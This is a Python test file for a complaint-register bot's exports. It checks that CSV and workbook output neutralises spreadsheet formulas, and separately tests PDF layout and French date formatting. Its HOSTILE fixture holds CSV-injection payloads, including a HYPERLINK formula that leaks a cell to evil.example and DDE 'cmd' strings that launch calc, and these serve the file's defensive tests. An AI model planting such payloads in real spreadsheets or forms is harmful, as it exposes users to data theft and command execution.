"""Exports are inert: a person's text in the register never becomes a formula (OWASP's
CSV-injection guidance), in the register's CSV and workbook and in the report's CSV.
The in-memory mailbox: no server needed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest

from bot.reporting.export import write_csv
from bot.reporting.inert import csv_value
from bot.reporting.report import compute, register_workbook
from bot.reporting.report import write_csv as write_report_csv
from bot.store.models import Complaint
from bot.testing import samples
from tests.conftest import MemoryEnv

HOSTILE = {
    "Nom et prénom": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "Objet de la réclamation": "+cmd|' /C calc'!A0",
    "Action(s) de formation concernée(s)": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Intervenants concernés": "-2+3+cmd|' /C calc'!A0",
    "Description": "=1+1\nsuite",
}


def registered(memory: MemoryEnv) -> Complaint:
    memory.deliver(samples.form_submission(dict(samples.COMPLETE_FORM, **HOSTILE)))
    [complaint] = memory.query(Complaint)
    assert complaint.client_name == HOSTILE["Nom et prénom"]  # kept as she wrote it
    return complaint


def test_security_register_csv_holds_no_live_formula(memory: MemoryEnv) -> None:
    registered(memory)
    out = io.StringIO()
    with memory.app.sessions() as session:
        write_csv(session, out, memory.app.rulebook)
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    cells = [value for row in rows[1:] for value in row]
    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + HOSTILE["Nom et prénom"] in cells
    assert "'" + HOSTILE["Objet de la réclamation"] in cells


def test_security_workbook_holds_no_formula_cell(memory: MemoryEnv) -> None:
    from openpyxl import load_workbook

    registered(memory)
    with memory.app.sessions() as session:
        data = register_workbook(session, memory.app)
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert HOSTILE["Nom et prénom"] in [c.value for c in cells]  # as text, intact


def test_security_report_csv_holds_no_live_formula(memory: MemoryEnv) -> None:
    registered(memory)
    today = dt.date.today()
    with memory.app.sessions() as session:
        report = compute(session, memory.app.rulebook.calendar, today.replace(day=1),
                         today + dt.timedelta(days=1))
    out = io.StringIO()
    write_report_csv(report, out)  # type: ignore[arg-type]
    values = [v for row in csv.reader(io.StringIO(out.getvalue()), delimiter=";") for v in row]
    assert not [v for v in values if v[:1] in ("=", "+", "@") or v.startswith("-2+")]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"), ("@x", "'@x"),
    ("\t=1", "'\t=1"), ("-2", "-2"), ("12,5", "12,5"), ("-40 %", "-40 %"),
    ("Jeanne", "Jeanne"), ("", ""),
])
def test_csv_values(value: str, written: str) -> None:
    assert csv_value(value) == written


def test_a_60_kib_description_and_a_long_name_export_to_pdf(memory: MemoryEnv) -> None:
    """A field of any length is laid out, split across pages in rows «(suite)»; every
    word of it is in the PDF, in order, and no character is drawn over another."""
    import pdfplumber

    from bot.reporting.export import register_pdf
    from tests.test_documents import overlaps

    paragraph = ("Le formateur a modifié le programme sans prévenir ; les supports annoncés "
                 "n'ont pas été remis, et les horaires ont changé trois fois. ")
    description = "\n".join(f"{i} {paragraph}" for i in range(500))[:60 * 1024]
    name = "Jeanne " + "Martin-" * 40  # near the 300 characters of a line
    memory.deliver(samples.form_submission(dict(samples.COMPLETE_FORM, **{
        "Description": description, "Nom et prénom": name})))
    with memory.app.sessions() as session:
        data = register_pdf(session, memory.app.rulebook, "SophroAttitude",
                            memory.app.clock())
    path = memory.config_path.parent / "registre.pdf"
    path.write_bytes(data)
    with pdfplumber.open(path) as pdf:
        assert len(pdf.pages) > 10
        labels, values = [], []
        for number, page in enumerate(pdf.pages, 1):
            assert overlaps([c for c in page.chars if c["text"].strip()]) == [], number
            # The label column is the block's first 58 mm (and the margin).
            split = 28 + 58 * 72 / 25.4
            labels.append(page.crop((0, 0, split, page.height)).extract_text() or "")
            # The values alone: the block's heading (bold, repeated atop each page) and
            # the page's footer (smaller) left out.
            value = page.crop((split, 0, page.width, page.height)).filter(
                lambda o: o.get("object_type") != "char" or (
                    abs(o["size"] - 8.5) < 0.2 and "Bold" not in o["fontname"]))
            values.append(value.extract_text() or "")
    assert "réclamation (suite)" in " ".join(" ".join(labels).split())
    words = " ".join(" ".join(values).split())
    # Every paragraph of it, each numbered, is there, in order (a page's footer and its
    # repeated heading may come between two of them).
    last = description.rsplit("\n", 1)[-1].split(" ", 1)[0]
    positions = [words.find(f"{i} Le formateur a modifié") for i in range(int(last) + 1)]
    assert -1 not in positions and positions == sorted(positions)


def test_the_workbook_s_dates_and_figures_are_typed_cells(memory: MemoryEnv) -> None:
    """Excel sorts, filters and sums them: dates are date cells, counts and rates
    numbers; a person's text stays text (a facts date she typed included)."""
    from openpyxl import load_workbook

    complaint = registered(memory)
    with memory.app.sessions() as session:
        data = register_workbook(session, memory.app)
    workbook = load_workbook(io.BytesIO(data))
    register = workbook["Registre"]
    header = [c.value for c in register[1]]
    row = {name: c for name, c in zip(header, register[2], strict=True)}
    received = row["Date de réception du ticket"]
    assert isinstance(received.value, dt.datetime) and received.number_format.startswith("DD/MM")
    assert isinstance(row["Échéance de réponse"].value, dt.datetime | dt.date)
    assert row["Date des faits"].value == complaint.facts_date  # her words, as text
    figures = {r[1].value: r[2].value for r in workbook["Indicateurs"].iter_rows(min_row=2)}
    assert figures["Réclamations reçues"] == 1 and isinstance(figures["du"], dt.datetime)


def test_the_pdf_shows_every_element_of_the_procedure_in_french_dates(
        memory: MemoryEnv) -> None:
    """An open complaint's block lists the 16 elements the procedure names, an empty one
    as «—» (an auditor sees what is not filled in yet); dates as people read them."""
    import pdfplumber

    from bot.reporting.export import REGISTER_COLUMNS, register_pdf

    memory.deliver(samples.form_submission())
    with memory.app.sessions() as session:
        data = register_pdf(session, memory.app.rulebook, "SophroAttitude",
                            memory.app.clock())
    path = memory.config_path.parent / "registre.pdf"
    path.write_bytes(data)
    split = 28 + 58 * 72 / 25.4  # the label column: the block's first 58 mm
    with pdfplumber.open(path) as pdf:
        text = " ".join(" ".join((page.extract_text() or "").split()) for page in pdf.pages)
        labels = " ".join(" ".join((page.crop((0, 0, split, page.height)).extract_text()
                                    or "").split()) for page in pdf.pages[1:])
    for label, _ in REGISTER_COLUMNS[1:]:
        assert label in labels, label
    assert "Identification des manquements —" in text  # empty, and shown so
    assert " à " in text and " h " in text  # «07/12/2026 à 15 h 53», not ISO
    assert not re.search(r"\b20\d\d-\d\d-\d\d\b", text)  # no ISO date at all
